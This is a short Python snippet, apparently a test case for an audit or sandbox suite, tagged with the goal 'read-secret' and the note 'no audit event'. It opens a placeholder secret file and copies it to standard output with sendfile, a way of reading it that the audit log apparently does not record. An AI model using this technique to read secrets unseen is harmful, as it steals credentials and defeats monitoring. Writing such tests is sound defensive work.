# technique: sendfile(2) copies the file to standard output inside the kernel
# goal: read-secret
# source: no audit event
import posix
posix.sendfile(1, posix.open('@SECRET@', posix.O_RDONLY), 0, 200)
